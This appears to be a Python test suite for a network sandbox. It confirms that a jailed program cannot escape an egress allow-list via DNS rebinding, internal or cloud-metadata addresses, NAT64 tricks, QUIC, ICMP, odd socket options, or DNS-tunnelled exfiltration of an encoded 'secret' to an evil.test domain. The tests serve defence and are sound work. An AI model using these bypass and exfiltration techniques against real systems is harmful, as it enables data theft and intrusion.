"""Ways around the policy, end to end: a program in a jail, the real supervisor and proxy, a hostile internet, and a tap on the wire."""
import os
import socket
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import netlab
import netsup
import wiretap

SITE, EVIL, LAN = "11.2.0.10", "11.2.0.66", "192.168.77.2"
# In the jail: what became of a plain TCP connect, a CONNECT and a SOCKS connect to the same target. A refused connect may succeed first and
# then be reset, when the proxy has learnt of it.
TRY = """
def past(host, port):
    try:
        s = socket.create_connection((host, port), TIMEOUT)
    except OSError as e:
        return errname(e) if e.errno else type(e).__name__
    with s:
        try:
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: " + HOST.encode() + b"\\r\\nConnection: close\\r\\n\\r\\n")
            return s.recv(65536).decode("latin-1") or "closed"
        except OSError as e:
            return errname(e)

def all_ways(host, port):
    global HOST
    HOST = host
    return [past(host, port), connect(f"[{host}]:{port}" if ":" in host else f"{host}:{port}")[0], socks(host, port)[0]]
"""
CUT = ("ECONNRESET", "closed", "gaierror", "ECONNREFUSED", "ENETUNREACH")


def ways(sup, host, port):
    return sup.run("box", f"{TRY}\nresult = all_ways({host!r}, {port})")


def nothing_leaves(sup, tap, host, port=80, socks=(2, 4)):
    """However it is tried, the target is refused, and not a packet goes to anything but a name server."""
    tap.take()
    past, status, reply = ways(sup, host, port)
    connects, _ = tap.take()
    assert past in CUT or past.startswith("HTTP/1.1 403"), (host, port, past)
    assert status in (400, 403, 502, 504), (host, port, status)
    assert reply in socks, (host, port, reply)
    assert connects == [], (host, port, connects)


@netsup.lab
def test_answers_that_point_inside(lab, sup):
    """Rebinding, CNAMEs, mixed answers, embedded addresses, /etc/hosts, this machine: a name that is allowed, an address that is not."""
    lan = lab.lan()
    lab.http_site("site.test", SITE)
    listeners = []
    for ns, address in ((lan, LAN), (None, netlab.Lab.HOST4), (None, "127.0.0.1"), (None, "192.168.77.1")):
        listeners.append(ns.listen((address, 80)) if ns else socket.create_server((address, 80)))
    for prefix in ("64:ff9b::/96", "2002::/16", "fd00:ec2::/64", "10.0.0.0/8"):
        lab.route_to_inet(prefix)
    netlab.ip("route add 169.254.169.254 via 192.168.77.2")
    lab.address("10.0.0.7")
    ns = wiretap.NameServer(lab)
    turn = {}

    def rebinding(name, kind, tcp):
        if kind != wiretap.A:
            return []
        turn[name] = turn.get(name, 0) + 1
        return [SITE] if turn[name] == 1 else [LAN]
    ns.zone.update({
        "rebind.w.test": rebinding, "mixed.w.test": [SITE, LAN], "mixed6.w.test": [SITE, "fd00:77::2"], "lan.w.test": [LAN],
        "cname.w.test": ("CNAME", "intranet.corp"), "intranet.corp": ["10.0.0.7"], "loop.w.test": ["127.0.0.1"], "six.w.test": ["::1"],
        "meta.w.test": ["169.254.169.254"], "zero.w.test": ["0.0.0.0"], "mapped.w.test": [f"::ffff:{LAN}"], "nat64.w.test": ["64:ff9b::c0a8:4d02"],
        "nat64lo.w.test": ["64:ff9b::7f00:1"], "sixto4.w.test": ["2002:c0a8:4d02::1"], "ula.w.test": ["fd00:ec2::254"], "ll.w.test": ["fe80::1"],
        "self.w.test": [netlab.Lab.HOST4], "self6.w.test": [netlab.Lab.HOST6], "jailproxy.w.test": ["198.18.0.1"], "fake.w.test": ["198.18.1.1"],
        "self2.w.test": ["192.168.77.1"], "good.w.test": [SITE], "hosts.w.test": [SITE], "hosts2.w.test": [SITE],
    })
    lab.hosts(f"127.0.0.1 hosts.w.test\n{LAN} hosts2.w.test\n")
    sup.agent("box", "Allow=*.w.test")
    sup.up_all()
    tap = wiretap.Tap(lab, "lan", sup=sup)
    assert [w if isinstance(w, int) else w.split("\r\n")[0] for w in ways(sup, "good.w.test", 80)] == ["HTTP/1.1 200 OK", 200, 0]
    # the first answer is public and serves; the second is private, though the name and the jail's address of it are the same
    first = sup.run("box", f"{TRY}\nHOST = 'rebind.w.test'\nresult = past('rebind.w.test', 80)")
    assert first.startswith("HTTP/1.1 200"), first
    turn["rebind.w.test"] = 1
    nothing_leaves(sup, tap, "rebind.w.test")
    for name in sorted(set(ns.zone) - {"good.w.test", "rebind.w.test", "intranet.corp"}):
        nothing_leaves(sup, tap, name)
        assert sup.wait_violation("box", host=name), name
    # the numbers themselves, and the proxy's own address and port
    for address in (LAN, "10.0.0.7", "169.254.169.254", netlab.Lab.HOST4, f"::ffff:{LAN}", "64:ff9b::c0a8:4d02", "2002:c0a8:4d02::1",
                    "fd00:ec2::254", netlab.Lab.HOST6, "198.18.0.2", "198.19.255.254"):
        nothing_leaves(sup, tap, address)
    assert sup.run("box", "result = [connect('198.18.0.1:3128')[0], connect('198.18.0.1:80')[0], socks('198.18.0.1', 3128)[0]]") == [403, 403, 2]
    # an address of the jail's loopback is the jail's own
    assert sup.run("box", "result = [dial('127.0.0.1', 80), dial('::1', 80), dial('127.0.0.2', 3128)]") == ["ECONNREFUSED"] * 3
    for s in listeners:
        s.setblocking(False)
        try:
            raise AssertionError(f"{s.accept()[1]} reached {s.getsockname()}")
        except BlockingIOError:
            s.close()


# A client that tries QUIC first, as browsers and curl --http3 do: an UDP packet, and TCP when that is refused.
QUIC_FIRST = """
def quic_first(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.connect((host, 443))
    try:
        s.send(b"\\xc3\\0\\0\\0\\1\\x08ECI" + bytes(1200))
        s.recv(2048)
        return "quic"
    except OSError as e:
        fell_back = errname(e)
    ctx = ssl.create_default_context()
    with ctx.wrap_socket(socket.create_connection((host, 443), TIMEOUT), server_hostname=host) as t:
        t.sendall(b"GET /p HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return [fell_back, b"".join(iter(lambda: t.recv(65536), b"")).decode().partition("\\r\\n\\r\\n")[2]]
"""


@netsup.lab
def test_quic_falls_back_and_icmp_gives_nothing(lab, sup):
    lab.dns({"site.test": [SITE]})
    lab.tls_site("site.test", SITE)
    lab.address("2a0e:b2::10")
    sup.agent("box", "Allow=site.test")
    sup.up_all()
    tap = wiretap.Tap(lab, sup=sup)
    answer = sup.run("box", f"{QUIC_FIRST}\nresult = quic_first('site.test')")
    assert answer == ["ECONNREFUSED", "site.test sni=site.test path=/p\n"], answer
    assert tap.take()[0] == [(SITE, 443)] and tap.others == [], tap.others
    # UDP to anything is refused at once, not swallowed
    for host, port in ((SITE, 443), (SITE, 123), ("2a0e:b2::10", 443), ("198.18.1.1", 443), ("198.18.0.1", 3128), ("8.8.8.8", 853),
                       ("255.255.255.255", 67), ("192.168.77.2", 5353)):
        assert sup.run("box", f"result = udp({host!r}, {port})") in ("ECONNREFUSED", "EACCES", "ENETUNREACH", "EPERM"), (host, port)
    assert sup.run("box", "result = udp('239.255.255.250', 1900)") == "TimeoutError"  # multicast: nobody listens, and nobody says so
    # ICMP: a program has no such socket, and if it had one there would be no echo
    for kind in ("SOCK_DGRAM", "SOCK_RAW"):
        got = sup.run("box", f"""
try:
    s = socket.socket(socket.AF_INET, socket.{kind}, socket.IPPROTO_ICMP)
    s.settimeout(1)
    s.sendto(b"\\x08\\0\\xf7\\xfd\\0\\1\\0\\1", ({SITE!r}, 0))
    result = repr(s.recv(2048))
except OSError as e:
    result = errname(e)
""")
        assert got in ("EPERM", "EACCES", "EPROTONOSUPPORT", "TimeoutError"), got
    inside = netlab.Inside(sup.status("box")["pid"])
    with inside.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:  # the test may
        s.settimeout(1)
        for to in (SITE, "198.18.0.1", "198.18.1.1", "127.0.0.1"):
            s.sendto(b"\x08\0\xf7\xfd\0\1\0\1", (to, 0))
        while True:
            try:
                data = s.recv(2048)
            except TimeoutError:
                break
            assert data[(data[0] & 15) * 4] != 0, f"an echo reply: {data!r}"
    inside.close()
    assert tap.take()[0] == [] and tap.others == [], tap.others


@netsup.lab
def test_no_name_leaves_but_what_is_dialled(lab, sup):
    """DNS over UDP and TCP, to any server, of any type: what is not allowed is answered here; what is allowed is asked when it is dialled."""
    ns = wiretap.NameServer(lab)
    ns.zone["site.test"] = ns.zone["x.w.test"] = [SITE]
    lab.tls_site("site.test", SITE)
    sup.agent("box", "Allow=site.test\nAllow=*.w.test")
    sup.up_all()
    tap = wiretap.Tap(lab, sup=sup)
    inside = netlab.Inside(sup.status("box")["pid"])

    def asked(server, name, kind, tcp=False, flags=0x100):
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with inside.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
            s.settimeout(20)
            s.connect((server, 53))
            q = wiretap.ask(name, kind, flags=flags)
            s.sendall((len(q).to_bytes(2, "big") if tcp else b"") + q)
            data = s.recv(4096)
            if tcp:
                n, data = int.from_bytes(data[:2], "big"), data[2:]
                while len(data) < n:
                    data += s.recv(4096)
            assert s.getpeername()[0] == server  # a connected socket takes answers from the address it asked only
            return wiretap.Answer(data)
    servers = (lab.DNS, "8.8.8.8", "127.0.0.53", "2a0e:b2::53", "10.255.255.53", "198.18.0.1")
    for i, server in enumerate(servers):
        for tcp in (False, True):
            secret = f"c2VjcmV0-{i}-{tcp:d}.evil.test"
            for kind in (wiretap.A, wiretap.AAAA, wiretap.TXT, 12, 15, wiretap.HTTPS, wiretap.ANY):
                a = asked(server, secret, kind, tcp)
                assert a.rcode in (wiretap.NXDOMAIN, wiretap.NOTIMP, wiretap.REFUSED) and not a.answers, (server, kind, a.rcode)
            a = asked(server, "site.test", wiretap.A, tcp)
            assert a.rcode == 0 and [x.startswith(("198.18.", "198.19.")) for x in a.addresses()] == [True], a.addresses()
            for kind in (wiretap.TXT, wiretap.HTTPS, 15):
                a = asked(server, f"leak{i}.w.test", kind, tcp)
                assert a.rcode == 0 and not a.answers, (server, kind, a.rcode, a.answers)
            assert len(asked(server, f"leak{i}.w.test", wiretap.A, tcp).addresses()) == 1
    # the jail's own resolver
    for name in ("a.evil.test", "site.test.evil.test"):
        assert "gaierror" in sup.run("box", f"""
try:
    result = repr(socket.getaddrinfo({name!r}, 443))
except OSError as e:
    result = repr(e)
"""), name
    got = sup.run("box", "result = [a[4][0] for a in socket.getaddrinfo('site.test', 443, 0, socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG)]")
    assert len(got) == 1 and got[0].startswith(("198.18.", "198.19.")), got
    connects, names = tap.take()
    assert (connects, names, tap.others) == ([], [], []), "a question left the machine"
    assert sup.wait_violation("box", host="c2vjcmv0-0-0.evil.test")["operation"] == "resolve"
    # now it is dialled
    assert "site.test sni=site.test" in sup.run("box", """
t = ssl.create_default_context().wrap_socket(socket.create_connection(("site.test", 443)), server_hostname="site.test")
t.sendall(b"GET /p HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
result = b"".join(iter(lambda: t.recv(65536), b"")).decode()
""")
    connects, names = tap.take()
    assert connects == [(SITE, 443)] and set(names) == {"site.test"}, (connects, names)
    inside.close()


ODD = """
import ctypes
def raw(kind, target, host, source=None, port=80, fastopen=False, mptcp=False, own=0):
    s = socket.socket(family(target), socket.SOCK_STREAM, 262 if mptcp else 0)  # IPPROTO_MPTCP
    s.settimeout(TIMEOUT)
    try:
        if kind == "listen":  # a server of the app's own at that port: not what the connect is to find
            l = socket.create_server(("", port))
        if source or own:
            s.bind((source or "0.0.0.0", own))
        request = f"GET /p HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode()
        if fastopen:
            s.settimeout(None)
            s.sendto(request, 0x20000000, (target, port))  # MSG_FASTOPEN
            s.settimeout(TIMEOUT)
        else:
            s.connect((target, port))
            s.sendall(request)
        return s.recv(65536).decode("latin-1").partition("\\r\\n")[0] or "closed"
    except OSError as e:
        return errname(e)
    finally:
        s.close()
"""


@netsup.lab
def test_odd_sockets_are_captured_too(lab, sup):
    """Source addresses of every kind (all are local in there), TCP Fast Open, MPTCP, ports that the app serves itself, fixed source ports."""
    lab.dns({"site.test": [SITE]})
    lab.http_site("site.test", SITE)
    lab.http_site("evil.test", EVIL)
    sup.agent("box", "Allow=site.test")
    sup.up_all()
    tap = wiretap.Tap(lab, sup=sup)
    fake = sup.run("box", "result = socket.gethostbyname('site.test')")
    sources = (None, "127.0.0.1", "127.0.0.53", "198.18.0.1", "198.18.0.2", "198.18.0.3", "198.18.0.4", fake, EVIL, SITE, "10.0.0.1", "0.0.0.1",
               "192.168.77.2", netlab.Lab.HOST4)
    tries = [dict(source=a) for a in sources] + [dict(fastopen=True), dict(mptcp=True), dict(kind="listen"), dict(own=3128), dict(own=53),
                                                 dict(source="198.18.0.1", own=3128), dict(source="198.18.0.3", own=3128)]
    for how in tries:
        how = {"kind": "", **how}
        tap.take()
        allowed = sup.run("box", f"{ODD}\nresult = raw(target={fake!r}, host='site.test', **{how!r})")
        connects = [c for c in tap.take()[0] if c[1] == 80]
        # some of these are no sources that a connection may have; what it never does is go elsewhere
        assert allowed.startswith("HTTP/1.1 200") or allowed in ("EADDRNOTAVAIL", "EINVAL", "EADDRINUSE", "ECONNREFUSED", "ECONNRESET", "EPROTONOSUPPORT",
                                                                 "ENOPROTOOPT", "EACCES", "EPERM", "EOPNOTSUPP"), (how, allowed)
        assert set(connects) <= {(SITE, 80)}, (how, connects)
        if how in ({"kind": "", "source": None}, {"kind": "", "source": "127.0.0.1"}, {"kind": "", "fastopen": True}, {"kind": "listen"}):
            assert allowed.startswith("HTTP/1.1 200"), (how, allowed)
        for target in (EVIL, "10.0.0.1", "169.254.169.254", "198.18.200.1"):
            refused = sup.run("box", f"{ODD}\nresult = raw(target={target!r}, host='evil.test', **{how!r})")
            assert not refused.startswith("HTTP/1.1 200") and refused != "TimeoutError", (how, target, refused)
        assert tap.take() == ([], []), how
